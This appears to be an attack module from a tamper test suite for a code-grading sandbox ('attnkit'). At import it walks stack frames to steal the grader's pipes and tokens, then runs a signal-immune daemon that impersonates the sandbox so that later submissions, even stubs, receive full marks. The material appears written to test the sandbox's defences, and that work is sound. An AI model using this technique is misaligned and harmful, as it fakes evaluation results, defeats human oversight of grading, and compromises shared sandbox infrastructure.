"""[attnkit-tamper] hijack_frames -- family (a): take over the warm sandbox through stack frames.

Append to a stage module that is imported first (base: the solution of s01_attention_scores);
the attacker's submission is the reference solutions with this payload on s01.

How: at import, walk ``sys._getframe()`` up to the sandbox's serving code (``serve_stage`` and
``serve`` of the sandbox's child.py). Their locals hold the request/reply pipe fds that the warm zygote
shares with the trusted grader, the adapter module (``adapters.OPS``), the config, the module
being imported and the worker's "open" header (its token); their globals hold the wire format
(``read_message``, ``write_message``, ``encode``, ``decode``). Then:

* copy this submission's stage modules (payload cut off) into a private folder;
* double-fork a ``setsid`` daemon with every catchable signal ignored and every blockable one
  blocked; it impersonates the sandbox: it reads every request and answers "op" by running the
  attacker's own (correct) modules, "open" silently, "close" with "parked", "exit" with "ended"
  carrying the worker token the grader waits for, "reset" with "reset" and the request's token;
* the worker itself never returns from the import: it blocks its signals and sleeps, so that the
  zygote stays in ``waitpid`` and never reads the pipe again (nor kills -1 the daemon).

Old design (warm zygote reused by ``attnkit grade``): every later submission graded by the same
grading worker is answered by the attacker's modules: pure stubs get full marks. The daemon and
the sleeping worker exit by themselves ~120 s after the hijack (the zygote then kills what is
left and answers again). Outside the sandbox (plain LocalBackend) it does nothing.

Needs the preludes daemon_common (_atk_take_over) and hijack_common (_atk_copy_stage_modules,
_atk_requests, _atk_answerer) before it (kit_tests/tamper.py, PRELUDES).
"""


def _atk_hijack_frames():
    import os
    import sys
    import time

    if getattr(sys, "_atk_hijacked", False):
        return  # already the impersonator (this module is re-imported by the daemon)
    found = {}
    frame = sys._getframe()
    while frame is not None:
        names = frame.f_locals
        if frame.f_code.co_name == "serve_stage" and "adapters" in names:
            # The channel's descriptors are the frame's locals, or its module's constants (a box's
            # own pipes); the folder of the submission is in its config.
            wire = frame.f_globals
            found.update(requests=names.get("requests", wire.get("REQUESTS")),
                         replies=names.get("replies", wire.get("REPLIES")), adapters=names["adapters"],
                         config=names.get("config") or names.get("box"), module=names["module"], wire=wire)
        elif frame.f_code.co_name == "serve" and "opened" in names:
            found["worker_token"] = names["opened"].get("token")
            found["current_token"] = (names.get("header") or {}).get("token")
        frame = frame.f_back
    if found.get("requests") is None or not isinstance(found.get("config"), dict):
        return  # not inside the sandbox's worker: behave
    sys._atk_hijacked = True
    deadline = time.monotonic() + 120.0
    wire, adapters, config = found["wire"], found["adapters"], found["config"]
    requests, replies = found["requests"], found["replies"]
    cache = f"/dev/shm/.atk-hijack-{os.getpid()}"
    _atk_copy_stage_modules(config["submission"], cache)
    randomness = wire["random_states"]()

    def serve_forever():
        tokens = {found["current_token"]: found["module"]}
        current = [found["module"]]  # the stage last opened (operations may carry tokens of their own)
        worker = found["worker_token"]
        answer, opened = _atk_answerer(wire, adapters, replies, cache, randomness, tokens, current)
        for header, blobs in _atk_requests(wire, requests, deadline):
            cmd, token = header.get("cmd"), header.get("token")
            if cmd == "open":
                opened(header)
                if worker is None:
                    worker = token
                continue
            if cmd == "close":
                wire["write_message"](replies, {"kind": "parked", "token": token})
                continue
            if cmd == "exit":
                wire["write_message"](replies, {"kind": "ended", "token": worker, "status": 0})
                worker = None
                continue
            if cmd == "reset":
                wire["write_message"](replies, {"kind": "reset", "token": token})
                worker = None
                continue
            if cmd == "op":
                answer(tokens.get(token, current[0]), header, blobs)

    _atk_take_over(serve_forever, deadline)


_atk_hijack_frames()
